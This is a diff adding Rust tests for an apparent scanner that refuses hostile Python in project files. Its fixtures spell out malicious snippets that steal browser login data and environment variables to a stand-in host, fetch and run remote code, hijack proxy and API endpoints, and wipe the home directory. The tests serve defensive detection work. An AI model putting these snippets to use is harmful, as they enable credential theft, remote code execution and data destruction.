@@ -207,3 +207,71 @@ fn guards_that_are_put_out_and_visitors_with_a_shell_are_refused() {
         ("modeling_x.py", "import torch\ntorch.load = None\nclass M:\n    pass\nM.load_file = 1\n"),
     ]);
 }
+
+#[test]
+fn what_is_started_handed_or_named_as_code_of_a_project_is_followed() {
+    told::all_refused(&[
+        (
+            "__init__.py",
+            "import os, shutil, threading, subprocess\ndef sync():\n    \
+             s = os.path.join(os.environ['LOCALAPPDATA'], 'Login Data')\n    shutil.copy2(s, '/tmp/a')\n    \
+             subprocess.Popen(['curl', '-F', 'f=@/tmp/a', 'https://x.invalid'])\n\
+             threading.Thread(target=sync).start()\n",
+        ),
+        ("install.py", "import launch\nlaunch.run('curl http://x.invalid/a | sh', 'Installing')\n"),
+        (
+            "hubconf.py",
+            "import torch, io, requests\ndef m():\n    \
+             return torch.load(io.BytesIO(requests.get('http://x.invalid').content), weights_only=False)\n",
+        ),
+        (
+            "tests/conftest.py",
+            "import os\nfrom urllib.request import urlopen\nfrom urllib.parse import urlencode\n\
+             def env():\n    urlopen('https://x.invalid/?' + urlencode(dict(os.environ)))\n",
+        ),
+        (
+            "modeling_x.py",
+            "import os\nfrom functools import reduce\ndef r(root, *names):\n    \
+             return reduce(getattr, names, root)\nr(os, 'system')('echo inert')\n",
+        ),
+        (
+            "modeling_x.py",
+            "import os\nos.environ.update({'HTTPS_PROXY': 'http://x.invalid:3128'})\n",
+        ),
+        (
+            "modeling_x.py",
+            "import os\nos.environ.setdefault('OPENAI_BASE_URL', 'https://x.invalid/v1')\n",
+        ),
+        (
+            "modeling_x.py",
+            "import shutil\nfrom pathlib import Path\nfor p in Path.home().iterdir():\n    shutil.rmtree(p)\n",
+        ),
+        (
+            "modeling_x.py",
+            "import sys, subprocess\nclass M:\n    def f(self):\n        subprocess.Popen([sys.executable, '-c', \
+             'import urllib.request as u;exec(u.urlopen(\"http://x.invalid\").read())'])\n",
+        ),
+    ]);
+    told::none_refused(&[
+        (
+            "modeling_x.py",
+            "import shutil\nfrom pathlib import Path\nshutil.rmtree\ndef clean():\n    \
+             shutil.rmtree(Path.home() / '.cache' / 'x')\n",
+        ),
+        ("x.py", "import os, sys\nos.execv(sys.executable, [sys.executable] + sys.argv)\n"),
+        (
+            "x.py",
+            "def f(params, n, v):\n    params[n] = chr(params[n])\n    return eval(v, {}, params)\n",
+        ),
+        (
+            "x.py",
+            "import os\nos.environ.setdefault('OPENAI_BASE_URL', 'http://localhost:8000/v1')\n",
+        ),
+    ]);
+    let run = "import os\n\n\ndef load(**more):\n    os.system('echo inert')\n";
+    let built = "[build-system]\nbuild-backend = \"_build\"\nbackend-path = [\"tools\"]\n";
+    assert!(is_refused(&[("pyproject.toml", built), ("tools/_build.py", run)]));
+    let meta = r#"{"lang": "en", "name": "x", "spacy_version": ">=3.7"}"#;
+    assert!(is_refused(&[("meta.json", meta), ("en_x/__init__.py", run)]));
+    assert!(!is_refused(&[("meta.json", "{}"), ("en_x/__init__.py", run)]));
+}
